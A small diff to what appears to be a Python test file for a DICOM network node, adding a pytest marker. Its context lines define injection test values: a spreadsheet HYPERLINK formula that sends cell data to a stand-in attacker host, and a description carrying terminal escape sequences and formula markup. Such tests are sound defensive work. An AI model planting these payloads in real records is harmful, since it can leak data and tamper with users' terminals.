@@ -18,6 +18,8 @@ from tests.conftest import LIDC_SERIES, REPO_ROOT
 from tests.node.conftest import node_config
 from tests.node.helpers import NodeProcess, storescu, wait_for
 
+pytestmark = pytest.mark.one_receiver  # receiving is not this file's subject (tests/conftest.py)
+
 PATIENT_ID = "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"
 DESCRIPTION = "\x1b]0;owned\x07\x1b[2J@SUM(1+1)[red]X[/]"
 
